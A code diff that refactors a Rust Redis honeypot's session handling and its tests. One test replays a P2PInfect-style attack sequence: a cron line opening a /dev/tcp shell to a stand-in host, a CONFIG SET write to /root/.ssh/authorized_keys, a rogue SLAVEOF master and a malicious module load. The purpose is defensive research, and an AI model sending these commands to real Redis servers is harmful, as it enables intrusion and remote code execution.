@@ -12,45 +12,25 @@
 
 use crate::catalog;
 use crate::logging::SessionLogger;
-use crate::low::read_or_fault;
-use decoy_net::framed::Framed;
-use decoy_net::proxy;
-use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
+use crate::session::{Flow, Session};
 use decoy_store::kv::{KvStore, ReplicationRole};
-use decoy_store::{EventStore, HoneypotId};
 use decoy_wire::cursor::sat_i64;
-use decoy_wire::error::NetResult;
 use decoy_wire::resp::{as_command, RedisCommand, RespCodec, RespValue};
 use std::sync::Arc;
 
-/// The medium-interaction Redis honeypot.
+/// The medium-interaction Redis honeypot. The default configuration has an
+/// empty keyspace; every session of an instance shares its keyspace.
+#[derive(Clone, Default)]
 pub struct RedisHoneypot {
-    store: Arc<EventStore>,
-    id: HoneypotId,
     kv: Arc<KvStore>,
 }
 
 impl RedisHoneypot {
-    /// Default configuration: empty keyspace.
-    pub fn new(store: Arc<EventStore>, id: HoneypotId) -> Arc<Self> {
-        Arc::new(RedisHoneypot {
-            store,
-            id,
-            kv: Arc::new(KvStore::new()),
-        })
-    }
-
     /// Fake-data configuration: preloaded `(username, password)` entries.
-    pub fn with_fake_data(
-        store: Arc<EventStore>,
-        id: HoneypotId,
-        entries: impl IntoIterator<Item = (String, String)>,
-    ) -> Arc<Self> {
-        Arc::new(RedisHoneypot {
-            store,
-            id,
+    pub fn with_fake_data(entries: impl IntoIterator<Item = (String, String)>) -> Self {
+        RedisHoneypot {
             kv: Arc::new(KvStore::with_entries(entries)),
-        })
+        }
     }
 
     /// The backing keyspace (forensics and tests).
@@ -315,79 +295,79 @@ impl RedisHoneypot {
     }
 }
 
-impl SessionHandler for RedisHoneypot {
-    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
-        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
-            Ok(pair) => pair,
-            Err(_) => return,
+impl Session for RedisHoneypot {
+    type Codec = RespCodec;
+
+    fn codec(&self) -> RespCodec {
+        RespCodec::server()
+    }
+
+    fn on_frame(
+        &mut self,
+        value: RespValue,
+        out: &mut Vec<RespValue>,
+        log: &SessionLogger,
+    ) -> Flow {
+        let cmd = match prelude(&value, out, log) {
+            Ok(cmd) => cmd,
+            Err(flow) => return flow,
         };
-        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
-        log.connect();
-        if let Err(e) = self.session(stream, initial, &log).await {
-            if e.is_peer_fault() {
-                log.malformed(e.to_string());
-            }
-        }
-        log.disconnect();
+        out.push(self.execute(&cmd));
+        Flow::Continue
     }
 }
 
-impl RedisHoneypot {
-    async fn session(
-        &self,
-        stream: SessionStream,
-        initial: decoy_wire::buf::RecvBuf,
-        log: &SessionLogger,
-    ) -> NetResult<()> {
-        let mut framed = Framed::with_initial(stream, RespCodec::server(), initial);
-        loop {
-            let value = read_or_fault!(framed, log);
-            let Some(cmd) = as_command(&value) else {
-                framed
-                    .write_frame(&RespValue::Error(
-                        "ERR Protocol error: expected command".into(),
-                    ))
-                    .await?;
-                continue;
-            };
-            if let RespValue::Inline(line) = &value {
-                let plausible = cmd.name.len() <= 20
-                    && cmd
-                        .name
-                        .chars()
-                        .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
-                if decoy_store::foreign::recognize(line.as_bytes()).is_some() || !plausible {
-                    log.payload(line.as_bytes());
-                    framed
-                        .write_frame(&RespValue::Error(
-                            "ERR Protocol error: unbalanced quotes in request".into(),
-                        ))
-                        .await?;
-                    continue;
-                }
-            }
-            log.command(&cmd.render());
-            if cmd.name == "AUTH" {
-                // no password is set, but the guess is still a credential
-                // capture (the 5-IP Redis brute cluster of Table 9)
-                let (username, password) = if cmd.args.len() > 1 {
-                    (
-                        cmd.arg_text(0).unwrap_or_default(),
-                        cmd.arg_text(1).unwrap_or_default(),
-                    )
-                } else {
-                    ("default".to_string(), cmd.arg_text(0).unwrap_or_default())
-                };
-                log.login(&username, &password, false);
-            }
-            if cmd.name == "QUIT" {
-                framed.write_frame(&RespValue::Simple("OK".into())).await?;
-                return Ok(());
-            }
-            let reply = self.execute(&cmd);
-            framed.write_frame(&reply).await?;
+/// The steps both Redis machines (this one and `low::LowRedis`) take before
+/// their own reply: a frame that is no command, or inline garbage, is
+/// answered here; a command is logged, an `AUTH` guess captured as a
+/// credential, and `QUIT` answered. `Err(flow)`: the frame is answered.
+pub(crate) fn prelude(
+    value: &RespValue,
+    out: &mut Vec<RespValue>,
+    log: &SessionLogger,
+) -> Result<RedisCommand, Flow> {
+    let Some(cmd) = as_command(value) else {
+        out.push(RespValue::Error(
+            "ERR Protocol error: expected command".into(),
+        ));
+        return Err(Flow::Continue);
+    };
+    // Inline garbage (JDWP probes, RDP cookies, random floods) is a
+    // payload capture; only plausible Redis verbs proceed as commands.
+    if let RespValue::Inline(line) = value {
+        let plausible = cmd.name.len() <= 20
+            && cmd
+                .name
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
+        if decoy_store::foreign::recognize(line.as_bytes()).is_some() || !plausible {
+            log.payload(line.as_bytes());
+            out.push(RespValue::Error(
+                "ERR Protocol error: unbalanced quotes in request".into(),
+            ));
+            return Err(Flow::Continue);
         }
     }
+    log.command(&cmd.render());
+    if cmd.name == "AUTH" {
+        // whether no password is set or every guess is wrong, the guess is
+        // a credential capture (the 5-IP Redis brute cluster of Table 9);
+        // `AUTH <user> <pass>` is the Redis 6 ACL form
+        let (username, password) = if cmd.args.len() > 1 {
+            (
+                cmd.arg_text(0).unwrap_or_default(),
+                cmd.arg_text(1).unwrap_or_default(),
+            )
+        } else {
+            ("default".to_string(), cmd.arg_text(0).unwrap_or_default())
+        };
+        log.login(&username, &password, false);
+    }
+    if cmd.name == "QUIT" {
+        out.push(RespValue::Simple("OK".into()));
+        return Err(Flow::Close);
+    }
+    Ok(cmd)
 }
 
 fn wrong_args(cmd: &str) -> RespValue {
@@ -411,12 +391,12 @@ fn unknown_command(cmd: &RedisCommand, name: &str) -> RespValue {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use decoy_base::time::Clock;
-    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
-    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
-    use tokio::net::TcpStream;
+    use crate::driver::{logins, Driver};
+    use decoy_store::{ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel};
 
-    async fn spawn(fake_data: bool) -> (ServerHandle, Arc<EventStore>, Arc<RedisHoneypot>) {
+    type Client = Driver<RedisHoneypot, RespCodec>;
+
+    fn connect(fake_data: bool) -> (Client, Arc<EventStore>, RedisHoneypot) {
         let store = EventStore::new();
         let id = HoneypotId::new(
             Dbms::Redis,
@@ -429,92 +409,60 @@ mod tests {
             0,
         );
         let hp = if fake_data {
-            RedisHoneypot::with_fake_data(
-                store.clone(),
-                id,
-                (0..5).map(|i| (format!("user:{i}"), format!("pw{i}"))),
-            )
+            RedisHoneypot::with_fake_data((0..5).map(|i| (format!("user:{i}"), format!("pw{i}"))))
         } else {
-            RedisHoneypot::new(store.clone(), id)
+            RedisHoneypot::default()
         };
-        let server = Listener::bind(
-            "127.0.0.1:0".parse().unwrap(),
-            hp.clone(),
-            ListenerOptions {
-                max_sessions: 64,
-                clock: Clock::simulated(),
-                ..ListenerOptions::default()
-            },
-        )
-        .await
-        .unwrap();
-        (server, store, hp)
+        let client = Driver::connect(hp.clone(), &store, id, RespCodec::client());
+        (client, store, hp)
     }
 
-    async fn roundtrip(framed: &mut Framed<TcpStream, RespCodec>, parts: &[&str]) -> RespValue {
-        framed
-            .write_frame(&RespValue::command(parts))
-            .await
-            .unwrap();
-        framed.read_frame().await.unwrap().unwrap()
+    fn roundtrip(f: &mut Client, parts: &[&str]) -> RespValue {
+        f.roundtrip(&RespValue::command(parts))
     }
 
-    #[tokio::test]
-    async fn crud_commands_hit_the_real_store() {
-        let (server, _store, hp) = spawn(false).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
+    #[test]
+    fn crud_commands_hit_the_real_store() {
+        let (mut f, _store, hp) = connect(false);
         assert_eq!(
-            roundtrip(&mut f, &["SET", "x", "hello"]).await,
+            roundtrip(&mut f, &["SET", "x", "hello"]),
             RespValue::Simple("OK".into())
         );
+        assert_eq!(roundtrip(&mut f, &["GET", "x"]), RespValue::bulk("hello"));
+        assert_eq!(roundtrip(&mut f, &["DBSIZE"]), RespValue::Integer(1));
         assert_eq!(
-            roundtrip(&mut f, &["GET", "x"]).await,
-            RespValue::bulk("hello")
-        );
-        assert_eq!(roundtrip(&mut f, &["DBSIZE"]).await, RespValue::Integer(1));
-        assert_eq!(
-            roundtrip(&mut f, &["TYPE", "x"]).await,
+            roundtrip(&mut f, &["TYPE", "x"]),
             RespValue::Simple("string".into())
         );
-        assert_eq!(
-            roundtrip(&mut f, &["DEL", "x"]).await,
-            RespValue::Integer(1)
-        );
-        assert_eq!(roundtrip(&mut f, &["GET", "x"]).await, RespValue::NullBulk);
-        server.shutdown().await;
+        assert_eq!(roundtrip(&mut f, &["DEL", "x"]), RespValue::Integer(1));
+        assert_eq!(roundtrip(&mut f, &["GET", "x"]), RespValue::NullBulk);
         assert!(hp.kv().is_empty());
     }
 
-    #[tokio::test]
-    async fn fake_data_type_walk_like_the_paper() {
+    #[test]
+    fn fake_data_type_walk_like_the_paper() {
         // §6: "after retrieving the full list of database entries, used the
         // TYPE command on each entry individually".
-        let (server, store, _hp) = spawn(true).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
-        let RespValue::Array(keys) = roundtrip(&mut f, &["KEYS", "*"]).await else {
+        let (mut f, store, _hp) = connect(true);
+        let RespValue::Array(keys) = roundtrip(&mut f, &["KEYS", "*"]) else {
             panic!("expected key list");
         };
         assert_eq!(keys.len(), 5);
         for key in &keys {
             let name = key.as_text().unwrap();
-            let reply = roundtrip(&mut f, &["TYPE", &name]).await;
+            let reply = roundtrip(&mut f, &["TYPE", &name]);
             assert_eq!(reply, RespValue::Simple("string".into()));
         }
-        server.shutdown().await;
         let commands = store.filter(|e| matches!(e.kind, EventKind::Command { .. }));
         assert_eq!(commands.len(), 1 + 5); // KEYS + five TYPEs
     }
 
-    #[tokio::test]
-    async fn p2pinfect_command_sequence_is_served_and_logged() {
+    #[test]
+    fn p2pinfect_command_sequence_is_served_and_logged() {
         // Condensed Listing 1.
-        let (server, store, hp) = spawn(false).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
-        roundtrip(&mut f, &["INFO", "server"]).await;
-        roundtrip(&mut f, &["FLUSHDB"]).await;
+        let (mut f, store, hp) = connect(false);
+        roundtrip(&mut f, &["INFO", "server"]);
+        roundtrip(&mut f, &["FLUSHDB"]);
         roundtrip(
             &mut f,
             &[
@@ -522,32 +470,30 @@ mod tests {
                 "x",
                 "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.3/8080\n\n",
             ],
-        )
-        .await;
+        );
         assert_eq!(
-            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/root/.ssh/"]).await,
+            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/root/.ssh/"]),
             RespValue::Simple("OK".into())
         );
-        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "authorized_keys"]).await;
-        roundtrip(&mut f, &["SAVE"]).await;
+        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "authorized_keys"]);
+        roundtrip(&mut f, &["SAVE"]);
         assert_eq!(
-            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/tmp/"]).await,
+            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/tmp/"]),
             RespValue::Simple("OK".into())
         );
-        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "exp.so"]).await;
+        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "exp.so"]);
         assert_eq!(
-            roundtrip(&mut f, &["SLAVEOF", "198.51.100.3", "8886"]).await,
+            roundtrip(&mut f, &["SLAVEOF", "198.51.100.3", "8886"]),
             RespValue::Simple("OK".into())
         );
-        let module_reply = roundtrip(&mut f, &["MODULE", "LOAD", "/tmp/exp.so"]).await;
+        let module_reply = roundtrip(&mut f, &["MODULE", "LOAD", "/tmp/exp.so"]);
         assert!(matches!(module_reply, RespValue::Error(_)));
         assert_eq!(
-            roundtrip(&mut f, &["SLAVEOF", "NO", "ONE"]).await,
+            roundtrip(&mut f, &["SLAVEOF", "NO", "ONE"]),
             RespValue::Simple("OK".into())
         );
-        let exec_reply = roundtrip(&mut f, &["system.exec", "rm -rf /tmp/exp.so"]).await;
+        let exec_reply = roundtrip(&mut f, &["system.exec", "rm -rf /tmp/exp.so"]);
         assert!(matches!(exec_reply, RespValue::Error(_)));
-        server.shutdown().await;
 
         // forensics: the module path was recorded, nothing executed
         assert_eq!(hp.kv().loaded_modules(), vec!["/tmp/exp.so"]);
@@ -559,125 +505,100 @@ mod tests {
         assert_eq!(slaveof.len(), 1);
     }
 
-    #[tokio::test]
-    async fn hash_and_list_commands_over_the_wire() {
-        let (server, _store, _hp) = spawn(false).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
+    #[test]
+    fn hash_and_list_commands_over_the_wire() {
+        let (mut f, _store, _hp) = connect(false);
         assert_eq!(
-            roundtrip(&mut f, &["HSET", "session", "user", "root"]).await,
+            roundtrip(&mut f, &["HSET", "session", "user", "root"]),
             RespValue::Integer(1)
         );
         assert_eq!(
-            roundtrip(&mut f, &["HGET", "session", "user"]).await,
+            roundtrip(&mut f, &["HGET", "session", "user"]),
             RespValue::bulk("root")
         );
-        let RespValue::Array(pairs) = roundtrip(&mut f, &["HGETALL", "session"]).await else {
+        let RespValue::Array(pairs) = roundtrip(&mut f, &["HGETALL", "session"]) else {
             panic!();
         };
         assert_eq!(pairs.len(), 2);
         assert_eq!(
-            roundtrip(&mut f, &["RPUSH", "queue", "a", "b"]).await,
+            roundtrip(&mut f, &["RPUSH", "queue", "a", "b"]),
             RespValue::Integer(2)
         );
         assert_eq!(
-            roundtrip(&mut f, &["LRANGE", "queue", "0", "-1"]).await,
+            roundtrip(&mut f, &["LRANGE", "queue", "0", "-1"]),
             RespValue::Array(vec![RespValue::bulk("a"), RespValue::bulk("b")])
         );
+        assert_eq!(roundtrip(&mut f, &["LLEN", "queue"]), RespValue::Integer(2));
         assert_eq!(
-            roundtrip(&mut f, &["LLEN", "queue"]).await,
-            RespValue::Integer(2)
-        );
-        assert_eq!(
-            roundtrip(&mut f, &["TYPE", "queue"]).await,
+            roundtrip(&mut f, &["TYPE", "queue"]),
             RespValue::Simple("list".into())
         );
-        server.shutdown().await;
     }
 
-    #[tokio::test]
-    async fn info_reflects_replication_role() {
-        let (server, _store, _hp) = spawn(false).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
-        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]).await else {
+    #[test]
+    fn info_reflects_replication_role() {
+        let (mut f, _store, _hp) = connect(false);
+        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]) else {
             panic!();
         };
         let text = String::from_utf8_lossy(&info).into_owned();
         assert!(text.contains("role:master"));
         assert!(text.contains("redis_version:5.0.7"));
-        roundtrip(&mut f, &["SLAVEOF", "198.51.100.9", "8886"]).await;
-        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]).await else {
+        roundtrip(&mut f, &["SLAVEOF", "198.51.100.9", "8886"]);
+        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]) else {
             panic!();
         };
         let text = String::from_utf8_lossy(&info).into_owned();
         assert!(text.contains("role:slave"));
         assert!(text.contains("master_port:8886"));
         // a sectioned INFO answers only that section, like the real server
-        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO", "server"]).await else {
+        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO", "server"]) else {
             panic!();
         };
         let text = String::from_utf8_lossy(&info).into_owned();
         assert!(text.contains("redis_version:5.0.7"));
         assert!(!text.contains("# Keyspace"));
-        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO", "nonsense"]).await else {
+        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO", "nonsense"]) else {
             panic!();
         };
         assert!(info.is_empty());
-        server.shutdown().await;
     }
 
-    #[tokio::test]
-    async fn echo_select_exists_and_config_get() {
-        let (server, _store, _hp) = spawn(false).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
+    #[test]
+    fn echo_select_exists_and_config_get() {
+        let (mut f, _store, _hp) = connect(false);
         assert_eq!(
-            roundtrip(&mut f, &["ECHO", "hello"]).await,
+            roundtrip(&mut f, &["ECHO", "hello"]),
             RespValue::bulk("hello")
         );
         assert_eq!(
-            roundtrip(&mut f, &["SELECT", "0"]).await,
+            roundtrip(&mut f, &["SELECT", "0"]),
             RespValue::Simple("OK".into())
         );
         assert_eq!(
-            roundtrip(&mut f, &["EXISTS", "nope"]).await,
+            roundtrip(&mut f, &["EXISTS", "nope"]),
             RespValue::Integer(0)
         );
-        let RespValue::Array(pairs) = roundtrip(&mut f, &["CONFIG", "GET", "dir"]).await else {
+        let RespValue::Array(pairs) = roundtrip(&mut f, &["CONFIG", "GET", "dir"]) else {
             panic!("expected config pairs");
         };
         assert_eq!(pairs[0], RespValue::bulk("dir"));
         assert_eq!(pairs[1], RespValue::bulk("/var/lib/redis"));
         // AUTH with no server password set: error, but credentials captured
-        let reply = roundtrip(&mut f, &["AUTH", "secret123"]).await;
+        let reply = roundtrip(&mut f, &["AUTH", "secret123"]);
         assert!(matches!(reply, RespValue::Error(_)));
         // wrong-arity commands answer arity errors, not crashes
-        let reply = roundtrip(&mut f, &["GET"]).await;
+        let reply = roundtrip(&mut f, &["GET"]);
         assert!(matches!(reply, RespValue::Error(_)));
-        server.shutdown().await;
     }
 
-    #[tokio::test]
-    async fn auth_guesses_are_credential_captures() {
-        let (server, store, _hp) = spawn(false).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
-        roundtrip(&mut f, &["AUTH", "redis123"]).await;
-        roundtrip(&mut f, &["AUTH", "acluser", "aclpass"]).await;
-        server.shutdown().await;
-        let logins: Vec<(String, String)> = store
-            .all()
-            .into_iter()
-            .filter_map(|e| match e.kind {
-                EventKind::LoginAttempt {
-                    username, password, ..
-                } => Some((username, password)),
-                _ => None,
-            })
-            .collect();
+    #[test]
+    fn auth_guesses_are_credential_captures() {
+        let (mut f, store, _hp) = connect(false);
+        roundtrip(&mut f, &["AUTH", "redis123"]);
+        roundtrip(&mut f, &["AUTH", "acluser", "aclpass"]);
         assert_eq!(
-            logins,
+            logins(&store),
             vec![
                 ("default".to_string(), "redis123".to_string()),
                 ("acluser".to_string(), "aclpass".to_string()),
@@ -685,32 +606,26 @@ mod tests {
         );
     }
 
-    #[tokio::test]
-    async fn hello_answers_resp2_fallback() {
-        let (server, _store, _hp) = spawn(false).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
-        let RespValue::Array(fields) = roundtrip(&mut f, &["HELLO"]).await else {
+    #[test]
+    fn hello_answers_resp2_fallback() {
+        let (mut f, _store, _hp) = connect(false);
+        let RespValue::Array(fields) = roundtrip(&mut f, &["HELLO"]) else {
             panic!("expected HELLO map");
         };
         assert!(fields.contains(&RespValue::bulk("version")));
         assert!(fields.contains(&RespValue::bulk("5.0.7")));
-        server.shutdown().await;
     }
 
-    #[tokio::test]
-    async fn unknown_commands_error_and_are_logged() {
-        let (server, store, _hp) = spawn(false).await;
-        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
-        let mut f = Framed::new(stream, RespCodec::client());
-        let reply = roundtrip(&mut f, &["TOTALLYBOGUS", "arg1"]).await;
+    #[test]
+    fn unknown_commands_error_and_are_logged() {
+        let (mut f, store, _hp) = connect(false);
+        let reply = roundtrip(&mut f, &["TOTALLYBOGUS", "arg1"]);
         assert_eq!(
             reply,
             RespValue::Error(
                 "ERR unknown command `TOTALLYBOGUS`, with args beginning with: `arg1`, ".into()
             )
         );
-        server.shutdown().await;
         assert_eq!(
             store
                 .filter(|e| matches!(e.kind, EventKind::Command { .. }))
